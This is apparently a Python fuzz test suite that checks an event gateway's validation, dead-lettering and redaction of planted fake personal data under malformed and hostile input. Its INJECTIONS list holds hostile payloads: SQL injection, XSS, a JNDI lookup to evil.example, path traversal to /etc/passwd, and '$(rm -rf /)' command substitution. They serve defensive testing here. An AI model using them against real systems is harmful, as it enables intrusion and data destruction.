"""Bad input at volume: malformed, hostile and boundary events, generated with
hypothesis, through the publish path, the policy core and the running stream worker.

Each input carries planted personal data (markers no schema message or default could
produce). Every input must either be dead-lettered with a known reason and a redacted
error, or be processed into exactly the decisions the offline core makes; nothing may
crash the worker; and no marker may reach a dead letter (its body or key), a decision
record, a publish error, or the worker's own log.
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from gateway.consent import ConsentState
from gateway.dev.samples import scenario
from gateway.errors import EventError
from gateway.events import parse_event
from gateway.pipeline import Pipeline
from gateway.runtime import Core

# Planted personal data: distinctive, so a hit is a leak and never a coincidence.
MARKERS = (
    "Zyxwvut",
    "Qlorbington",
    "qz.leak7731@example.org",
    "4000056655665556",
    "Xyloquent Lane",
    "555-0199-7731",
)
NAME = {"first": "Zyxwvut", "last": "Qlorbington"}
EMAIL = "qz.leak7731@example.org"

REASONS = {"not_json", "too_large", "unknown_type", "schema", "card_number"}
# What a valid event's subject state can make it (in the stream, beside REASONS): a mutated
# subject type, an older consent change, a change for an erased subject, a reused id.
STATE_REASONS = {"superseded", "subject_erased", "subject_type_mismatch", "event_id_reused"}
MAX_EVENT = 256 * 1024
# Many examples by default; GATEWAY_FUZZ_EXAMPLES scales the run (CI keeps the default).
EXAMPLES = int(os.environ.get("GATEWAY_FUZZ_EXAMPLES", "1000"))

INJECTIONS = [
    "'; DROP TABLE ledger_records; --",
    "' OR '1'='1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "{0.__class__}",
    "../../../etc/passwd",
    "\x00\x01\x02",
    "\u202eevil",
    "\nERROR gateway: forged log line",
    "\r\nSet-Cookie: x=1",
    "$(rm -rf /)",
    "`id`",
    "\\u0000",
    "\U0001d54f" * 40,
    "\ufeffbom",
    "NaN",
    "-1e309",
    "9" * 400,
]

BASES = scenario()


def plant(event: dict[str, Any]) -> dict[str, Any]:
    """The event with personal data markers in its PI fields (where it has them)."""
    e = copy.deepcopy(event)
    data = e.get("data", {})
    for key in ("name", "recipient", "payer"):
        if isinstance(data.get(key), dict):
            data[key] = dict(NAME)
    for key in ("emails",):
        if isinstance(data.get(key), list):
            data[key] = [EMAIL]
    for key in ("contact_email", "email"):
        if isinstance(data.get(key), str):
            data[key] = EMAIL
    for addr_key in ("shipping_address", "billing_address"):
        if isinstance(data.get(addr_key), dict):
            data[addr_key] = {**data[addr_key], "street": "77 Xyloquent Lane"}
    if isinstance(data.get("phones"), list):
        data["phones"] = ["+1-555-0199-7731"]
    if isinstance(data.get("payment"), dict) and "number" in data["payment"]:
        data["payment"] = {**data["payment"], "number": "4000056655665556"}
    return e


def string_paths(obj: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    if isinstance(obj, dict):
        return [p for k, v in obj.items() for p in string_paths(v, (*path, k))] + [path]
    if isinstance(obj, list):
        return [p for i, v in enumerate(obj) for p in string_paths(v, (*path, i))] + [path]
    return [path]


def set_path(obj: Any, path: tuple[Any, ...], value: Any) -> Any:
    if not path:
        return value
    target = obj
    for k in path[:-1]:
        target = target[k]
    target[path[-1]] = value
    return obj


def deep(depth: int, leaf: Any = "Zyxwvut") -> Any:
    v: Any = leaf
    for i in range(depth):
        v = {"n": v} if i % 2 else [v]
    return v


hostile_value = st.one_of(
    st.sampled_from(INJECTIONS),
    st.sampled_from([None, True, False, 0, -1, 2**63, -(2**63) - 1, 1.5e308, [], {}]),
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=60),
    st.integers(),
    st.floats(allow_nan=False),
    st.builds(lambda n, m: (m + " ") * n, st.integers(1, 20_000), st.sampled_from(MARKERS)),
    st.builds(deep, st.integers(1, 120)),
    st.dictionaries(
        st.sampled_from(["card_pin", "ssn", "__proto__", "$where", "a" * 300, "x.y", "<b>"]),
        st.sampled_from(MARKERS),
        max_size=3,
    ),
)


@st.composite
def mutated_event(draw: st.DrawFn) -> dict[str, Any]:
    """A planted event with one or more things wrong with it (or none: valid input is
    fuzzed too, with hostile strings where the schema allows free text)."""
    e = plant(draw(st.sampled_from(BASES)))
    for _ in range(draw(st.integers(0, 3))):
        op = draw(
            st.sampled_from(
                ["set", "extra", "drop", "type", "version", "time", "subject", "event_id", "notes"]
            )
        )
        if op == "set":
            path = draw(st.sampled_from(string_paths(e)))
            set_path(e, path, draw(hostile_value))
        elif op == "extra":
            dicts = [p for p in string_paths(e) if isinstance(_get(e, p), dict)]
            path = draw(st.sampled_from(dicts))
            # Field names are not personal data here; one that is has its own (xfail) test.
            _get(e, path)[
                draw(
                    st.sampled_from(
                        [
                            "card_pin",
                            "category",
                            "ssn",
                            "$where",
                            "user.unknown_category",
                            "x" * 100,
                            "<script>",
                        ]
                    )
                )
            ] = EMAIL
        elif op == "drop":
            key = draw(
                st.sampled_from(
                    ["event_id", "event_type", "subject", "data", "occurred_at", "schema_version"]
                )
            )
            e.pop(key, None)
        elif op == "type":
            e["event_type"] = draw(
                st.sampled_from(
                    [
                        "order.vanished",
                        "ORDER.PLACED",
                        "",
                        "consent.changed",
                        "site.visit",
                        "x" * 300,
                        "order.placed\n",
                    ]
                )
            )
        elif op == "version":
            e["schema_version"] = draw(st.sampled_from([0, 2, "1", None, 1.0]))
        elif op == "time":
            e["occurred_at"] = draw(
                st.sampled_from(
                    [
                        "yesterday",
                        "2026-13-40T99:00:00Z",
                        "",
                        0,
                        "9999-12-31T23:59:59Z",
                        "0001-01-01T00:00:00Z",
                    ]
                )
            )
        elif op == "subject":
            e["subject"] = draw(
                st.sampled_from(
                    [
                        {"customer_id": "Zyxwvut Qlorbington", "type": "consumer"},
                        {"customer_id": "C-1", "type": "alien"},
                        {"customer_id": "", "type": "business"},
                        {"customer_id": "C" * 65, "type": "consumer"},
                        {"customer_id": "C-1"},
                        None,
                    ]
                )
            )
        elif op == "event_id":
            e["event_id"] = draw(
                st.sampled_from(
                    ["short", "e" * 65, "evt-00000001", BASES[0]["event_id"], 12345678, None]
                )
            )
        elif op == "notes" and isinstance(e.get("data"), dict):
            e["data"]["notes"] = draw(st.sampled_from(INJECTIONS))
    return e


def _get(obj: Any, path: tuple[Any, ...]) -> Any:
    for k in path:
        obj = obj[k]
    return obj


def dumps(e: Any) -> bytes:
    try:
        return orjson.dumps(e)
    except TypeError:  # integers beyond 64 bits: any JSON encoder a publisher might use
        return json.dumps(e).encode()


def encode(e: dict[str, Any], how: str) -> bytes:
    raw = dumps(e)
    if how == "utf8":
        return raw
    if how == "utf16":
        return raw.decode().encode("utf-16")
    if how == "latin1":
        return raw.decode().replace("Lane", "Lañe").encode("latin-1", "replace")
    if how == "bom":
        return b"\xef\xbb\xbf" + raw
    if how == "truncated":
        return raw[: max(1, len(raw) // 2)]
    if how == "dupkeys":  # JSON with a duplicated key: the last one wins in orjson
        return raw[:-1] + b',"event_type":"order.vanished"}'
    if how == "huge":  # well over GATEWAY_MAX_EVENT_BYTES
        e = copy.deepcopy(e)
        e.setdefault("data", {})
        if isinstance(e["data"], dict):
            e["data"]["notes"] = "Zyxwvut " * 40_000
        return dumps(e)
    raise AssertionError(how)


raw_garbage = st.one_of(
    st.binary(max_size=300),
    st.sampled_from(
        [
            b"",
            b"null",
            b"[]",
            b'"Zyxwvut Qlorbington"',
            b"{",
            b"}" * 10,
            b"\xff\xfe\x00Zyxwvut",
            b"\xc0\xae\xc0\xae",
            b"\xed\xa0\x80",
            b'{"a":' * 5000 + b"1" + b"}" * 5000,
            b"[" * 100_000,
            b"1e999999",
            b'{"event_id": "\\ud800"}',
            b"Zyxwvut\n" * 1000,
        ]
    ),
)

encoded_event = st.builds(
    encode,
    mutated_event(),
    st.sampled_from(["utf8"] * 6 + ["utf16", "latin1", "bom", "truncated", "dupkeys", "huge"]),
)
# Mostly events that look like events (the hard cases), some plain garbage.
hostile_input = st.one_of(encoded_event, encoded_event, encoded_event, raw_garbage)


def assert_no_markers(blob: bytes | str, where: str) -> None:
    text = blob if isinstance(blob, str) else blob.decode("utf-8", "replace")
    low = text.lower()
    for m in MARKERS:
        assert m.lower() not in low, f"planted personal data {m!r} leaked into {where}"


def check_outcome(
    pipeline: Pipeline,
    raw: bytes,
    states: dict[str, ConsentState],
    reasons: set[str] = REASONS,
) -> str:
    """Process one input; assert it is dead-lettered cleanly (for one of ``reasons``) or
    processed as a valid event. Returns the dead-letter reason, or "ok"."""
    out = pipeline.process(
        raw, states, verify=False
    )  # must never raise: the worker would dead-letter
    if out.dead_letter is not None:
        d = out.dead_letter
        assert d.reason in reasons, d.reason
        assert d.error and d.digest.startswith("sha256:") and d.size == len(raw)
        body = d.to_json()
        assert len(body) < 32 * 1024, "a dead letter must stay small for any input"
        assert_no_markers(body, "a dead letter")
        assert_no_markers(d.event_id, "a dead letter's key")
        return d.reason
    assert out.event is not None
    parse_event(raw, pipeline.max_event_bytes)  # a processed input is a valid event
    subscribed = set(pipeline.engine.subscribers.get(out.event.event_type, ()))
    if out.event.event_type != "erasure.requested":
        assert {r.agent for r in out.records} == subscribed
    digests = {r.payload_digest for r in out.records if r.payload_digest}
    for m in out.messages:
        assert "sha256:" + __import__("hashlib").sha256(m.value).hexdigest() in digests
    for r in out.records:
        assert_no_markers(r.to_json(), "a decision record")
    return "ok"


# --- the core and the publish path, at volume ----------------------------------------------

TRIED: dict[str, int] = {}


def count(kind: str) -> None:
    TRIED[kind] = TRIED.get(kind, 0) + 1


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(hostile_input)
def test_every_bad_input_is_dead_lettered_or_processed_without_leaking(raw: bytes) -> None:
    core = _core()
    count(check_outcome(core.pipeline, raw, {}))


@settings(
    max_examples=max(50, EXAMPLES // 4),
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(st.lists(hostile_input, min_size=2, max_size=12))
# Found by this test in CI: a registration republished after the customer's type changed
# declares the old type, which the shared state now contradicts (subject_type_mismatch).
@example(
    [
        b'{"event_id":"50e6b3a9-02eb-5e06-b850-d983dcc34d25","event_type":"customer.registered",'
        b'"schema_version":1,"occurred_at":"2026-03-02T10:38:00Z","subject":{"customer_id":'
        b'"C-1004","type":"consumer"},"data":{"name":{"first":"Zyxwvut","last":"Qlorbington"},'
        b'"emails":["qz.leak7731@example.org"]}}',
        b'{"event_id":"dc6e4b7c-d7b8-5708-a0d2-f4104b71ae21","event_type":"customer.type_changed",'
        b'"schema_version":1,"occurred_at":"2026-03-02T12:09:00Z","subject":{"customer_id":'
        b'"C-1004","type":"business"},"data":{"type":"business"}}',
    ]
)
def test_sequences_with_shared_state_and_reused_ids(raws: list[bytes]) -> None:
    # One consent table across the sequence, and some inputs repeated verbatim (a
    # republished event) to exercise duplicate ids against accumulated state: the state
    # may then refuse a valid event (an older change, an erased subject, a type the subject
    # no longer has), as the stream would.
    core = _core()
    states: dict[str, ConsentState] = {}
    for raw in raws + raws[:2]:
        count(check_outcome(core.pipeline, raw, states, REASONS | STATE_REASONS))


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(hostile_input)
def test_the_publish_path_rejects_with_a_redacted_error(raw: bytes) -> None:
    # What gateway.sdk.publisher.Publisher.validate runs before sending anything.
    try:
        parse_event(raw, MAX_EVENT)
    except EventError as e:
        assert e.reason in REASONS
        assert_no_markers(str(e), "a publish error")
        count("publish_rejected")
    else:
        count("publish_accepted")


_CORE: list[Core] = []


def _core() -> Core:
    return _CORE[0]


@pytest.fixture(autouse=True, scope="module")
def _bind_core(core: Core) -> None:
    if not _CORE:
        _CORE.append(core)


def test_boundaries_of_the_envelope(core: Core) -> None:
    base = plant(next(e for e in BASES if e["event_type"] == "order.placed"))
    cases: list[tuple[Callable[[dict[str, Any]], Any], str]] = [
        (lambda e: e.__setitem__("event_id", "e" * 8), "ok"),
        (lambda e: e.__setitem__("event_id", "e" * 7), "schema"),
        (lambda e: e.__setitem__("event_id", "e" * 64), "ok"),
        (lambda e: e.__setitem__("event_id", "e" * 65), "schema"),
        (lambda e: e["subject"].__setitem__("customer_id", "C" * 64), "ok"),
        (lambda e: e["subject"].__setitem__("customer_id", "C" * 65), "schema"),
        (lambda e: e["data"].__setitem__("notes", "n" * 2000), "ok"),
    ]
    for change, want in cases:
        e = copy.deepcopy(base)
        change(e)
        assert check_outcome(core.pipeline, orjson.dumps(e), {}) == want
    # exactly at and just over the size limit
    e = copy.deepcopy(base)
    e["data"]["notes"] = ""
    raw = orjson.dumps(e)
    pad = core.pipeline.max_event_bytes - len(raw)
    at_limit = raw.replace(b'"notes":""', b'"notes":"' + b" " * pad + b'"')
    assert len(at_limit) == core.pipeline.max_event_bytes
    assert check_outcome(core.pipeline, at_limit, {}) in ("ok", "schema")
    assert check_outcome(core.pipeline, at_limit + b" ", {}) == "too_large"


def test_personal_data_in_an_invalid_event_id_does_not_reach_the_dead_letter(core: Core) -> None:
    e = plant(next(e for e in BASES if e["event_type"] == "order.placed"))
    e["event_id"] = EMAIL  # not a valid id: the event is dead-lettered ...
    check_outcome(core.pipeline, orjson.dumps(e), {})  # ... and must not quote it


def test_personal_data_as_a_field_name_does_not_reach_the_dead_letter(core: Core) -> None:
    e = plant(next(e for e in BASES if e["event_type"] == "customer.updated"))
    e["data"]["contacts_by_name"] = {"ZyxwvutQlorbington": {"since": 2019}}
    e["data"]["Zyxwvut"] = "friend"
    check_outcome(core.pipeline, orjson.dumps(e), {})


def test_report_how_many_inputs_were_tried() -> None:
    # Runs after the property tests in this module: a floor on the volume actually tried.
    total = sum(TRIED.values())
    print(
        f"bad/hostile inputs tried through the core and the publish path: {total} "
        f"({dict(sorted(TRIED.items()))})"
    )
    if total:  # 0 when this test is selected alone
        assert total >= EXAMPLES


# --- through the running stream worker ---------------------------------------------------


def fresh_id(raw: bytes, n: int) -> bytes:
    try:
        e = orjson.loads(raw)
    except orjson.JSONDecodeError:
        return raw
    if (
        not isinstance(e, dict)
        or not isinstance(e.get("event_id"), str)
        or len(e["event_id"]) < 8
        or raw.startswith(b"\xef\xbb\xbf")
    ):
        return raw
    e["event_id"] = f"evt-fuzz-{n:06d}-{e['event_id'][-8:]}"
    try:
        return orjson.dumps(e)
    except TypeError:
        return raw


@pytest.mark.slow
@pytest.mark.broker
def test_hostile_input_through_the_stream(
    broker,
    topic_prefix: str,
    tmp_path: Path,  # type: ignore[no-untyped-def]
    record_property: pytest.RecordProperty,
) -> None:
    from kafka import KafkaProducer

    from gateway.audit import reconcile_deployment, reconcile_until_settled
    from gateway.runtime import demo_signers
    from gateway.sdk.publisher import PRODUCER_DEFAULTS
    from tests.stream.helpers import Env, Worker

    env = Env.create(tmp_path, broker.bootstrap, topic_prefix)
    signers = demo_signers(env.settings, env.policy)

    def headers(raw: bytes) -> list[tuple[str, bytes]]:
        # An honest but buggy publisher: it signs whatever it sends, as the publisher of
        # the type the event claims (the orders back end when it claims none it knows).
        try:
            etype = orjson.loads(raw)["event_type"]
        except Exception:
            etype = None
        signer = signers.get(etype) if isinstance(etype, str) else None
        return (signer or signers["order.placed"]).headers(raw)

    sent: list[bytes] = []
    refused: set[str] = set()  # digests of what the SDK refuses
    publish_rejected = 0
    with Worker(env) as w:
        producer = KafkaProducer(
            bootstrap_servers=[env.settings.bootstrap_servers], **PRODUCER_DEFAULTS
        )
        publisher = env.publisher()

        @settings(
            max_examples=6, deadline=None, database=None, suppress_health_check=list(HealthCheck)
        )
        @given(st.lists(hostile_input, min_size=40, max_size=40))
        def run(batch: list[bytes]) -> None:
            nonlocal publish_rejected
            # Fresh ids for what is otherwise a valid event (the samples' ids repeat across
            # mutations), then republish a few verbatim: duplicates the gateway must take.
            # A reused id with *different* content is its own test (test_reconcile).
            batch = [fresh_id(raw, len(sent) + i) for i, raw in enumerate(batch)]
            batch += batch[:3]
            for raw in batch:
                try:  # the SDK refuses what it can see is bad; a raw producer does not
                    publisher.validate(raw)
                except EventError:
                    publish_rejected += 1
                    refused.add("sha256:" + hashlib.sha256(raw).hexdigest())
                try:
                    key = orjson.loads(raw)["subject"]["customer_id"].encode()
                except Exception:
                    key = b"C-unknown"
                producer.send(
                    env.settings.input_topic, key=key[:64], value=raw, headers=headers(raw)
                )
            producer.flush()
            sent.extend(batch)
            w.wait_processed(len(sent), timeout=90)
            assert w.proc is not None and w.proc.poll() is None

        try:
            run()
        finally:
            producer.close()
            publisher.close()
        rep = reconcile_until_settled(
            lambda: reconcile_deployment(env.settings, pipeline=env.core.pipeline), 90
        )
        dead = env.topic(env.settings.dead_letter_topic)
        assert w.proc is not None and w.proc.poll() is None  # still up
    summary = (
        f"{len(sent)} hostile inputs through the stream ({publish_rejected} refused by "
        f"the SDK), {len(dead)} dead letters; reconcile {rep.summary()}"
    )
    record_property("fuzz_stream", summary)
    print(summary)
    assert not rep.gaps and not rep.pending, [f.to_dict() for f in rep.gaps][:5]
    assert rep.counts["inputs"] == len(sent)
    # The SDK refuses exactly what the worker dead-letters as invalid: one validation. (The
    # others are valid events the subject's state makes inapplicable.)
    letters = [orjson.loads(v) for _, v, _ in dead]
    invalid = {d["digest"] for d in letters if d["reason"] not in STATE_REASONS}
    assert invalid == refused
    assert len(dead) >= publish_rejected  # (republished bad input: dead-lettered again)
    # Every valid input decided exactly as the offline core decides (no conflict), no
    # unexplained id, nothing malformed on the gateway's own topics.
    assert not rep.warnings, [f.to_dict() for f in rep.warnings][:5]
    for _, value, key in dead:
        d = orjson.loads(value)
        assert d["reason"] in REASONS | STATE_REASONS
        assert_no_markers(value, "the dead-letter topic")
        assert_no_markers(key or b"", "a dead-letter key")
    for _, value, _ in env.topic(env.settings.disclosure_topic):
        assert_no_markers(value, "the disclosure topic")
    assert_no_markers(w.log_path.read_text(errors="replace"), "the worker's log")
